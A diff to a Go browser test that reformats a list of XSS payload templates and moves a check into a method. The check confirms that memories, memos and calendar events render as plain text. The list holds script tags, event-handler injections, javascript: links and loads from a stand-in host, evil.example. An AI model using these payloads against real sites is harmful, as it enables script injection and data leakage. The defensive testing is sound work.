@@ -17,14 +17,18 @@ func hostileTexts() (all []string) {
 		`<script>%s</script>`, `<img src=x onerror="%s">`, `<svg onload="%s">`, `<body onload="%s">`,
 		`<iframe srcdoc="<script>parent.%s</script>">`, `<details open ontoggle="%s">x</details>`,
 		`<input autofocus onfocus="%s">`, `<video><source onerror="%s"></video>`, `<a href="javascript:%s">x</a>`,
-		`<math><mtext><table><mglyph><style><img src=x onerror="%s">`, `<form action="javascript:%s"><button>x</button></form>`,
-		`<object data="javascript:%s"></object>`, `<embed src="javascript:%s">`, `<style>@import "//evil.example/%s"</style>`,
+		`<math><mtext><table><mglyph><style><img src=x onerror="%s">`,
+		`<form action="javascript:%s"><button>x</button></form>`,
+		`<object data="javascript:%s"></object>`, `<embed src="javascript:%s">`,
+		`<style>@import "//evil.example/%s"</style>`,
 		`<link rel=stylesheet href="//evil.example/%s">`, `<meta http-equiv=refresh content="0;url=//evil.example/%s">`,
 		`<base href="//evil.example/%s">`, `[x](javascript:%s)`, `![x](//evil.example/%s)`, `<javascript:%s>`,
 		`[x](data:text/html,<script>%s</script>)`, "`<img src=x onerror=\"%s\">`", `"><img src=x onerror="%s">`,
-		`'><svg/onload="%s">`, `</textarea><script>%s</script>`, `</title><script>%s</script>`, `<!--><script>%s</script>-->`,
+		`'><svg/onload="%s">`, `</textarea><script>%s</script>`, `</title><script>%s</script>`,
+		`<!--><script>%s</script>-->`,
 		`<noscript><p title="</noscript><img src=x onerror='%s'>">`, `${%s}`, `{{constructor.constructor('%s')()}}`,
-		`<template><script>%s</script></template>`, `<marquee onstart="%s">x</marquee>`, `<x contenteditable onbeforeinput="%s">`,
+		`<template><script>%s</script></template>`, `<marquee onstart="%s">x</marquee>`,
+		`<x contenteditable onbeforeinput="%s">`,
 		`<button popovertarget=p onclick="%s">x</button>`, `<dialog open onclose="%s">x</dialog>`,
 		`[x]: javascript:%s` + "\n\n[x]", `<a href="//evil.example/%s" ping="//evil.example">x</a>`,
 		`<img src="//evil.example/%s">`, `<div style="background:url(//evil.example/%s)">x</div>`,
@@ -50,7 +54,8 @@ func TestBrowserHostile(t *testing.T) {
 	for i, text := range texts {
 		q := quote(text)
 		fmt.Fprintf(&calls, `{"tool":"add_memory","input":{"full_text":%s,"caption":%[1]s,"session":"s%d"}}`+"\n", q, i)
-		fmt.Fprintf(&calls, `{"tool":"add_memo","input":{"name":"m%d","content":%s,"priority":3,"detail":%[2]s}}`+"\n", i, q)
+		fmt.Fprintf(&calls, `{"tool":"add_memo","input":{"name":"m%d","content":%s,"priority":3,"detail":%[2]s}}`+
+			"\n", i, q)
 		fmt.Fprintf(&calls, `{"tool":"create_event","input":{"title":%s,"start":"2026-11-20 %02d:00","location":%[1]s,`+
 			`"description":%[1]s}}`+"\n", q, i%24)
 	}
@@ -68,22 +73,12 @@ func TestBrowserHostile(t *testing.T) {
 		}
 	})
 	b.run(network.Enable())
-	inert := func(where string) {
-		t.Helper()
-		if bad := js[string](b, `[...document.querySelectorAll("main script, main img, main iframe, main svg, main object,"
-			+ "main embed, main style, main link, main meta, main base, main video, main audio, main template")]
-			.map((e) => e.outerHTML).join() + [...document.querySelectorAll("main *")].flatMap((e) => [...e.attributes])
-			.filter((a) => /^on/i.test(a.name) || /^\s*(javascript|data):/i.test(a.value)).map((a) => a.name + a.value)
-			.join() + (window.hacked ?? "")`); bad != "" {
-			t.Errorf("%s: %.300s", where, bad)
-		}
-	}
 	for _, v := range titles {
 		b.visit(v.view, v.en)
 		b.eventually(`!document.querySelector(".loading")`)
 		js[any](b, `document.querySelectorAll("main summary").forEach((s) => s.click()); null`)
 		b.eventually(`!document.querySelector(".loading")`)
-		inert(v.view)
+		b.inert(v.view)
 	}
 	for i, id := range p.ids("memories.id", "memory", "list", "--limit", "1000") {
 		b.visit("memories/"+id, "Memories")
@@ -91,15 +86,31 @@ func TestBrowserHostile(t *testing.T) {
 		if i%10 == 0 {
 			js[any](b, `document.querySelectorAll("main .prose a").forEach((a) => { a.target = ""; }); null`)
 		}
-		inert(id)
+		b.inert(id)
 	}
 	for _, id := range p.ids("events.event_id", "cal", "list", "2026-11-20", "--limit", "40") {
 		b.visit("calendar/"+id, "Calendar")
 		b.shows("dialog", "Delete")
-		inert(id)
+		b.inert(id)
 	}
 	b.visit("memories?q=hacked", "Memories")
 	b.shows(".results mark", "hacked")
-	inert("search")
+	b.inert("search")
 	b.clean()
+}
+
+// inert reports whatever of the texts became more than text: an element that loads or
+// runs something, a handler, or an address that runs.
+func (b *browser) inert(where string) {
+	b.t.Helper()
+	bad := js[string](b, `[...document.querySelectorAll("main script, main img, main iframe, main svg, "
+		+ "main object, main embed, main style, main link, main meta, main base, main video, main audio, "
+		+ "main template")].map((e) => e.outerHTML).join()
+		+ [...document.querySelectorAll("main *")].flatMap((e) => [...e.attributes])
+			.filter((a) => /^on/i.test(a.name) || /^\s*(javascript|data):/i.test(a.value))
+			.map((a) => a.name + a.value).join()
+		+ (window.hacked ?? "")`)
+	if bad != "" {
+		b.t.Errorf("%s: %.300s", where, bad)
+	}
 }
